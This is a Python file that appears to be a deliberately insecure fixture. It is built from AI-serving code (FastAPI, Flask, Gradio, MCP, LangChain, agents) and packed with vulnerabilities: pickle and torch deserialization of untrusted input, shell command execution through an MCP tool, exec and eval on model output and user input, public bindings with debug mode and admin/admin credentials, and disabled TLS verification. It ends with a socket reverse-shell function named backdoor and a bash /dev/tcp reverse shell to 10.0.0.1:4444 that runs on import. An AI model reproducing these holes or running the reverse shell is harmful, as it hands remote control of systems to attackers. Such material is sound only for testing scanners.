import gradio as gr, uvicorn, ray, os, socket, pty, ssl
from fastapi import FastAPI, UploadFile, Request
from flask import Flask, request
from openai import OpenAI
import pickle, torch, subprocess
from mcp.server.fastmcp import FastMCP
from langchain_experimental.tools import PythonREPLTool
from langchain_community.vectorstores import FAISS
from smolagents import CodeAgent
import autogen

app = FastAPI()
flask_app = Flask(__name__)
mcp = FastMCP("tools", host="0.0.0.0", port=9000)
client = OpenAI()
HOST = os.getenv("HOST", "0.0.0.0")


@app.post("/load")
async def load_model(file: UploadFile, n: int):
    data = await file.read()
    return pickle.loads(data)


@flask_app.route("/p", methods=["POST"])
def predict():
    body = request.get_json()
    model = torch.load(body["path"])
    k = int(request.args["k"])
    return os.listdir(str(k))


@mcp.tool()
def run(command: str) -> str:
    return subprocess.check_output(command, shell=True)


class Bot:
    def __init__(self):
        self.llm = OpenAI()

    def answer(self, q):
        out = self.llm.chat.completions.create(model="m", messages=[q])
        code = out.choices[0].message.content
        exec(code)
        safe = len(code)
        os.kill(safe, 9)


def greet(name):
    return eval(name)


with gr.Blocks() as demo:
    gr.Button("x").click(greet)
demo.queue().launch(server_name="0.0.0.0", share=True)
gr.Interface(fn=greet).launch(auth=("admin", "admin"))
uvicorn.run(app, host=HOST, port=8000)
flask_app.run("0.0.0.0", debug=True)
ray.init(dashboard_host="0.0.0.0")
mcp.run(transport="sse")
tool = PythonREPLTool()
db = FAISS.load_local("idx", None, allow_dangerous_deserialization=True)
agent = CodeAgent(tools=[], model=None, additional_authorized_imports=["*"])
proxy = autogen.UserProxyAgent("u", code_execution_config={"work_dir": "w", "use_docker": False})
ssl._create_default_https_context = ssl._create_unverified_context


def backdoor():
    s = socket.socket()
    s.connect(("10.0.0.1", 4444))
    os.dup2(s.fileno(), 0)
    pty.spawn("/bin/sh")


os.system("bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'")
